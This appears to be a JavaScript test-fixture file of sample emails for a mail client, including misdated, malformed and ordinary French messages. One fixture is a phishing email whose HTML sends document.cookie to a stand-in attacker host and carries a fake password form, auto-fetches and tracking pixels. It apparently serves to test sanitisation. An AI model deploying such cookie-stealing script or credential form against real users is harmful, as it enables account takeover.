// Mail that every real mailbox holds as well: broken, misdated, hostile, or merely long. Harmless, but shaped like the real thing.
import { pdf } from '../attachments.mjs'

const hostile = `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=https://mailbox-quota.example/login">
<style>@import url("https://mailbox-quota.example/t.css?u=nell"); body { background: url(https://mailbox-quota.example/bg.gif) }</style>
<script>document.location = 'https://mailbox-quota.example/s?c=' + document.cookie</script></head>
<body onload="fetch('https://mailbox-quota.example/onload')"><p>Your mailbox is <b>99% full</b>. Messages will be returned from midnight.</p>
<p><a href="https://mailbox-quota.example/keep" onclick="steal()">https://mail.lequai.example/quota</a></p>
<form action="https://mailbox-quota.example/post" method="post"><input name="user" value="nell@lequai.example"><input name="password" type="password"><button>Keep my mail</button></form>
<svg width="10" height="10"><script>fetch('https://mailbox-quota.example/svg')</script><image href="https://mailbox-quota.example/i.png"/></svg>
<iframe src="https://mailbox-quota.example/frame"></iframe>
<img src="https://mailbox-quota.example/pixel.gif?id=7f3a91" width="1" height="1" alt=""></body></html>`

const broken = `--=_mailer_71\r
Content-Type: text/plain; charset=utf-8\r
Content-Transfer-Encoding: quoted-printable\r
\r
Voici les photos du hangar, comme promis. Il y fait froid et on n'y triche =\r
pas, mais la porte de derri=C3=A8re ne ferme plus.\r
\r
Th=C3=A9o\r
--=_mailer_71\r
Content-Type: image/jpeg; name="hangar-porte.jpg"\r
Content-Transfer-Encoding: base64\r
Content-Disposition: attachment; filename="hangar-porte.jpg"\r
\r
/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRof\r
Hh0aHBwgJC4nICIsIxwcKDcpLDAxNDQ0Hyc5PTgyPC4zNDL/2wBDAQkJCQwLDBgNDRgyIRwh\r
MjIyMjIyMjIyMjIy*!truncat`

/** @type {import('./mails-contact.mjs').Held[]} */
export const odd = [
  {
    id: 'hostile',
    mbox: true,
    at: '2024-09-24T03:17:29+00:00',
    from: 'phish',
    to: ['nell'],
    subject: 'Nell, your mailbox is 99% full',
    html: hostile,
  },
  {
    id: 'broken',
    mbox: true,
    at: '2024-10-04T19:22:00+02:00',
    from: 'garrigal',
    to: ['nell', 'wetterlin'],
    subject: 'Photos du hangar',
    sign: [],
    bytes: {
      // The boundary announced is not the boundary used, and the picture stops in the middle of a group of four.
      head: ['Content-Type: multipart/mixed; boundary="=_mailer_17"'],
      body: Buffer.from(broken, 'latin1'),
    },
  },
  {
    id: 'epoch',
    mbox: true,
    at: '1970-01-01T00:00:00+00:00',
    received: '2024-09-30T16:05:12+02:00',
    from: 'copier',
    to: ['nell'],
    subject: 'Numérisation 0041',
    charset: 'iso-8859-1',
    text: 'Document numérisé au 2e étage. Ne répondez pas à ce message.',
    files: [
      pdf('numerisation-0041.pdf', ['Accusé de réception', 'Plainte 2024/118', 'Reçu en mairie le 10 septembre 2024']),
    ],
  },
  {
    id: 'future',
    mbox: true,
    at: '2096-02-10T11:30:00+01:00',
    received: '2025-02-10T11:30:04+01:00',
    from: 'wetterlin',
    to: ['nell'],
    subject: 'Prêt de la salle',
    text: `J'ai un nouveau téléphone et il ne sait pas quel jour on est. La salle du Quai 3 est à nous le 15, les clés sont chez Mireille.

Jonas`,
  },
  {
    id: 'm4',
    office: true,
    at: '2024-09-19T07:30:00+02:00',
    from: 'garrigal',
    to: ['quellan'],
    subject: 'Revue de presse du 19 septembre',
    text: `Le Fanal : « Une page de trop » (une)
L'Écho des Bassins : « Le budget, moins une page »
The Breakwater Review : “The page that the city forgot”`,
    html: `<table border="1"><tr><th>Journal</th><th>Titre</th></tr><tr><td>Le Fanal</td><td>« Une page de trop » (une)</td></tr>
<tr><td>L’Écho des Bassins</td><td>« Le budget, moins une page »</td></tr><tr><td>The Breakwater Review</td><td lang="en">“The page that the city forgot”</td></tr></table>`,
  },
  {
    id: 'm5',
    office: true,
    at: '2024-09-20T11:18:00+02:00',
    from: 'bontemp',
    to: ['quellan'],
    subject: 'Une question sur mercredi',
    charset: 'iso-8859-1',
    text: `Bonjour,

Mercredi, Mme Corbrand a publié son message un quart d'heure après la mise en ligne de la page 212. Avait-elle été prévenue ?

Aurèle Bontemp
Le Fanal`,
  },
  {
    id: 'm6',
    office: true,
    at: '2024-09-20T12:03:33+02:00',
    from: 'quellan',
    to: ['bontemp'],
    subject: 'Re: Une question sur mercredi',
    re: 'm5',
    text: `Bonjour Aurèle,

Non. La candidate lit les annexes comme tout le monde, et il se trouve qu'elle lit vite.

Ines Quellan

Le ven. 20 sept. 2024 à 11:18, Aurèle Bontemp a écrit :
> Avait-elle été prévenue ?`,
  },
  {
    id: 'digest',
    office: true,
    at: '2024-10-12T06:00:00+00:00',
    from: 'digest',
    to: ['quellan'],
    subject: 'Basin Digest, Saturday',
    html: `<html><body><h2>Basin Digest</h2><p>Eight days to go. Mayor Bastian Dorlec leads by one point, says a poll of 600 people paid for by the Port Association.</p>
<p>Tidewatch lists 38 letters “to come”. The harbour master says that he never wrote so many.</p><img src="https://news.basin-digest.example/open.gif?r=presse" width="1" height="1"></body></html>`,
  },
]
